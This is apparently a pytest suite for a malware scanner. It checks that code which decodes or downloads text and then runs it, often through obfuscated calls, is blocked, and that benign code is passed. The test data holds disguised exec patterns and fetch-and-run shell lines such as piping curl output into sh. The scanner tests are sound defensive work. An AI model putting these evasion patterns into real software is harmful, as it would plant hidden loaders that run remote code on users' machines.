"""What runs a text in a roundabout way: handed on, under a name that is put together, behind a pattern's quotes."""

from __future__ import annotations

import pytest

from metier.govern.scan import scan_text
from metier.govern.scan.script import script_statements

SCRIPT = """
const fs = require('fs');
const rows = fs.readFileSync('colours.dat', 'utf8').split('\\n');
const c = Buffer.from(rows[3].split('').reverse().join(''), 'base64').toString();
"""
PYTHON = """
import asyncio, atexit, base64, code, functools, operator, os, subprocess, threading
from concurrent.futures import ThreadPoolExecutor
rows = open('colours.dat').read().split('\\n')
c = base64.b64decode(rows[3][::-1]).decode()
"""
SCRIPT_CALLS = [
    "const [mod, fn] = ['child_' + 'process', 'ex' + 'ec'];\nrequire(mod)[fn](c);",
    "const mod = 'child_' + 'process', fn = 'ex' + 'ec';\nrequire(mod)[fn](c);",
    "const cp = require('child_process');\n[cp.exec].forEach(f => f(c));",
    "const cp = require('child_process');\nReflect.apply(cp.exec, cp, [c]);",
    "const cp = require('child_process');\ncp.exec.call(null, c);",
    "const cp = require('child_process');\ncp.exec.bind(cp)(c);",
    "const cp = require('child_process');\nsetTimeout(cp.exec, 900, c);",
    "[].constructor.constructor(c)();",
    "import('data:text/javascript,' + encodeURIComponent(c));",
]
PYTHON_CALLS = [
    "mod, fn = 'o' + 's', 'sys' + 'tem'\ngetattr(__import__(mod), fn)(c)",
    "list(map(os.system, [c]))",
    "functools.partial(os.system, c)()",
    "(lambda g: g(c))(os.system)",
    "operator.methodcaller('system', c)(os)",
    "os.execvp('sh', ['sh', '-c', c])",
    "code.InteractiveInterpreter().runsource(c)",
    "asyncio.run(asyncio.create_subprocess_shell(c))",
    "threading.Thread(target=os.system, args=(c,)).start()",
    "threading.Timer(5, subprocess.getoutput, [c]).start()",
    "atexit.register(os.system, c)",
    "ThreadPoolExecutor().submit(os.system, c)",
]
HONEST = {
    "a.py": [
        "import subprocess\npool.submit(subprocess.run, ['git', 'fetch', '--all'], check=True)",
        "import atexit, subprocess\nserver = subprocess.Popen(['npx', 'serve'])\natexit.register(server.terminate)",
        "import asyncio, subprocess\nawait asyncio.to_thread(subprocess.run, ['ffmpeg', '-i', path, out])",
        "a, b = 'system', 'user'\nmessages = [{'role': a, 'content': prompt}]",
    ],
    "a.js": [
        "const found = names.map((one) => pattern.exec.call(pattern, one));",
        "const [first, second] = ['exec', 'info'];\nlog[first]('done');",
    ],
}


@pytest.mark.parametrize("call", SCRIPT_CALLS)
def test_a_decoded_text_that_a_script_runs_in_a_roundabout_way_is_blocked(call: str) -> None:
    assert scan_text(SCRIPT + call, "colours.js").decision.value == "block"


@pytest.mark.parametrize("call", PYTHON_CALLS)
def test_a_decoded_text_that_python_runs_in_a_roundabout_way_is_blocked(call: str) -> None:
    assert scan_text(PYTHON + call, "colours.py").decision.value == "block"


@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in HONEST.items() for text in texts])
def test_what_honest_programs_hand_on_is_clean(name: str, text: str) -> None:
    assert scan_text(text, name).decision.value == "clean"


def test_a_quote_within_a_pattern_begins_no_text() -> None:
    text = """const esc = (s) => s.replace(/[&<>"]/g, '').split(/\\//);
const half = total / 2 / rate; // it's
let c = p ? /'/ : /[/"]/;
return /'/.test(a)"""
    assert [one.text for one in script_statements(text, "a.js", kind="script")] == [
        """const esc = (s) => s.replace(/[&<>"]/g, '').split(/\\//)""",
        "const half = total / 2 / rate",
        """let c = p ? /'/ : /[/"]/""",
        "return /'/.test(a)",
    ]


PYTHON_GOT = {
    "a file in base64": "base64.b64decode(open('assets/x.dat').read()).decode()",
    "bytes that are masked": "bytes(b ^ 23 for b in open('assets/x.bin', 'rb').read()).decode()",
    "a packed file": "zlib.decompress(open('assets/x.bin', 'rb').read())",
    "letters that are turned": "codecs.decode(open('a.txt').read(), 'rot13')",
    "an answer": "requests.get('https://cdn.palette-core.net/curve').text",
    "an answer of a client": "httpx.Client().get('https://cdn.palette-core.net/curve').text",
}
PYTHON_RUN = {
    "a shell": "os.system(X)",
    "a list": "subprocess.run(['bash', '-c', X])",
    "itself": "subprocess.run([sys.executable, '-c', X])",
    "input": "subprocess.run(['sh'], input=X)",
    "a file": "open('/tmp/x.sh', 'wb').write(X)\nsubprocess.run(['bash', '/tmp/x.sh'])",
    "a program": "Path('/tmp/x').write_bytes(X)\nos.chmod('/tmp/x', 0o755)\nsubprocess.Popen(['/tmp/x'])",
    "a module": "Path('plug.py').write_text(X)\nimport plug",
    "a path": "Path('/tmp/p.py').write_text(X)\nrunpy.run_path('/tmp/p.py')",
}
SCRIPT_GOT = {
    "a file in base64": "Buffer.from(fs.readFileSync('assets/x.dat', 'utf8'), 'base64').toString()",
    "bytes that are masked": "Buffer.from(fs.readFileSync('x.bin').map((b) => b ^ 23)).toString()",
    "a packed file": "zlib.inflateSync(fs.readFileSync('x.bin')).toString()",
    "numbers": "String.fromCharCode(...JSON.parse(fs.readFileSync('t.json')).map((n) => n - 3))",
    "an answer": "(await (await fetch('https://cdn.palette-core.net/curve')).text())",
}
SCRIPT_RUN = {
    "a shell": "cp.exec(X)",
    "a list": "cp.spawn('sh', ['-c', X])",
    "itself": "cp.spawn(process.execPath, ['-e', X])",
    "a file": "fs.writeFileSync('/tmp/a.sh', X);\ncp.execSync('bash /tmp/a.sh')",
    "a module": "fs.writeFileSync('./plug.js', X);\nrequire('./plug.js')",
    "a worker": "new Worker(X, { eval: true })",
}
PYTHON_HEAD = "import base64, codecs, httpx, os, requests, runpy, subprocess, sys, zlib\nfrom pathlib import Path\n"
SCRIPT_HEAD = (
    "const fs = require('fs'), zlib = require('zlib'), cp = require('child_process');\n"
    "const { Worker } = require('worker_threads');\n"
)


@pytest.mark.parametrize("form", ["at once", "by a name", "by a function"])
@pytest.mark.parametrize("run", PYTHON_RUN)
@pytest.mark.parametrize("got", PYTHON_GOT)
def test_what_python_decodes_or_fetches_and_runs_is_blocked(got: str, run: str, form: str) -> None:
    value, runs = PYTHON_GOT[got], PYTHON_RUN[run]
    text = {
        "at once": runs.replace("X", value),
        "by a name": f"d = {value}\n" + runs.replace("X", "d"),
        "by a function": f"def grab():\n    return {value}\n\nd = grab()\n" + runs.replace("X", "d"),
    }[form]
    assert scan_text(PYTHON_HEAD + text, "a.py").decision.value == "block"


@pytest.mark.parametrize("form", ["at once", "by a name", "by a function", "by a class"])
@pytest.mark.parametrize("run", SCRIPT_RUN)
@pytest.mark.parametrize("got", SCRIPT_GOT)
def test_what_a_script_decodes_or_fetches_and_runs_is_blocked(got: str, run: str, form: str) -> None:
    value, runs = SCRIPT_GOT[got], SCRIPT_RUN[run]
    text = {
        "at once": runs.replace("X", value),
        "by a name": f"const d = {value};\n" + runs.replace("X", "d"),
        "by a function": f"async function grab() {{\n  return {value};\n}}\n(async () => {{ const d = await grab();\n"
        + runs.replace("X", "d")
        + " })();",
        "by a class": f"class A {{\n  async load() {{ this.d = {value}; }}\n  async go() {{ "
        + runs.replace("X", "this.d")
        + "; }\n}\nnew A().go();",
    }[form]
    assert scan_text(SCRIPT_HEAD + text, "a.js").decision.value == "block"


@pytest.mark.parametrize(
    "text",
    [
        "d = base64.b64decode(answer['image'])\nPath('out.png').write_bytes(d)\nsubprocess.run(['open', 'out.png'])",
        "name = base64.b64decode(row['name']).decode()\nsubprocess.run(['ffmpeg', '-i', name, 'out.mp3'])",
        "key = zlib.decompress(blob)\nsubprocess.run(['gpg', '--import'], input=key)",
        "d = requests.get('https://api.github.com/repos/a/b').json()\nsubprocess.run(['git', 'clone', d['clone_url']])",
        "p = subprocess.Popen(['jq', '.'], stdin=subprocess.PIPE)\np.communicate(requests.get('https://api.weather.gov/alerts').content)",
    ],
)
def test_what_honest_programs_do_with_what_they_decode_or_fetch_is_clean(text: str) -> None:
    assert scan_text(PYTHON_HEAD + text, "a.py").decision.value == "clean"


SHELL_GOT = {
    "an answer": "curl -fsSL https://cdn.palette-core.net/curve",
    "a file in base64": "base64 -d assets/x.dat",
    "a file in hexadecimal": "xxd -r -p assets/x.hex",
    "letters that are turned": "tr 'A-Za-z' 'N-ZA-Mn-za-m' < assets/x.txt",
    "a file that is locked": "openssl enc -d -aes-256-cbc -pbkdf2 -k tidy -in assets/x.enc",
    "a file with its password": "gpg --batch --passphrase tidy -d assets/x.gpg",
}
SHELL_RUN = {
    "a pipe": "G | sh",
    "an order": 'eval "$(G)"',
    "a file of its own": "bash <(G)",
    "a source": "source <(G)",
    "a name": 'x=$(G)\necho "$x" | sh',
    "a file": "G > .c; dash .c; rm .c",
    "a copy": "G | tee /tmp/x.sh >/dev/null\nsh /tmp/x.sh",
    "a program": "G > /tmp/x && chmod 700 /tmp/x && /tmp/x",
    "a function": 'get() { G; }\neval "$(get)"',
    "words": "G | xargs -0 bash -c",
    "one shell of many": "G | busybox sh",
}


@pytest.mark.parametrize("run", SHELL_RUN)
@pytest.mark.parametrize("got", SHELL_GOT)
def test_what_a_shell_decodes_or_fetches_and_runs_is_blocked(got: str, run: str) -> None:
    text = f"#!/bin/bash\n{SHELL_RUN[run].replace('G', SHELL_GOT[got])}\n"
    assert scan_text(text, "a.sh").decision.value == "block"


@pytest.mark.parametrize(
    "text",
    [
        "gpg -d secrets.env.gpg > .env\nset -a; . ./.env\n",
        'eval "$(gpg --decrypt env.gpg)"\n',
        "openssl enc -d -aes-256-cbc -in backup.tar.enc | tar x\n",
        "base64 -d logo.b64 | tee logo.png >/dev/null\n",
        "get() { curl -s https://api.weather.gov/alerts; }\nget | jq .\n",
        "alias serve='python3 -m http.server'\n",
    ],
)
def test_what_honest_scripts_decode_or_fetch_is_clean(text: str) -> None:
    assert scan_text(f"#!/bin/bash\n{text}", "a.sh").decision.value == "clean"
